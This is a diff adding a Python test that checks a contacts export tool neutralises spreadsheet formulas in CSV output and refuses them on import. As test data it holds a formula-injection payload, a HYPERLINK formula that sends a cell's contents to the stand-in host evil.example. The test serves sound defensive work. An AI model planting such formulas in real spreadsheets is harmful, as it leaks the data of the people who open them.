@@ -74,6 +74,30 @@ class ContactsRoundTrip(ProjectTest):
         self.assertIn("nothing to change", result.stdout)
         self.assertEqual((self.root / "content/contacts.toml").read_bytes(), before)
 
+    def test_formulas_are_neutralised_on_export_and_refused_on_import(self):
+        evil = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
+        self.write("content/contacts.toml", TABLE.replace('phone = "03-5978-7509"\n',
+                                                          'phone = "03-5978-7509"\nnote = ' +
+                                                          '"=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"詳細\\")"\n'))
+        before = (self.root / "content/contacts.toml").read_bytes()
+        run("contacts", "export", self.csv, "--root", self.root)
+        text = self.csv.read_bytes()[3:].decode("utf-8")
+        self.assertIn(',"\'=HYPERLINK(""http://evil.example/?""&A1,""詳細"")"\r\n', text)
+        self.assertNotIn(',"=HYPERLINK', text, "no cell starts with '=' for Excel")
+        # The exported file imports back unchanged: the apostrophe comes off again.
+        result = run("contacts", "import", self.csv, "--root", self.root)
+        self.assertEqual(result.returncode, 0, result.stderr)
+        self.assertIn("changed: the layout of contacts.toml (same contents)", result.stdout)
+        after = (self.root / "content/contacts.toml").read_bytes()
+        self.assertIn('note = "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"詳細\\")"\n', after.decode("utf-8"))
+        self.assertEqual(after.count(b"\nnote = "), before.count(b"\nnote = "))
+        # A cell an attacker wrote without the apostrophe is refused, with its row and column.
+        self.csv.write_text(text.replace("'=HYPERLINK", "=HYPERLINK"), encoding="utf-8")
+        result = run("contacts", "import", self.csv, "--root", self.root)
+        self.assertEqual(result.returncode, 1)
+        self.assertIn(f"{self.csv}:4:7: error: '{evil}' starts with '=', which Excel runs as a formula", result.stderr)
+        self.assertEqual((self.root / "content/contacts.toml").read_bytes(), after)
+
     def test_a_bad_row_changes_nothing(self):
         self.csv.write_text("最終確認日,2026-07-01\n区分,相談内容,相談先,URL,電話番号\n"
                             "県内,相談,警察,https://x.example.jp/,110-1\n", encoding="utf-8")
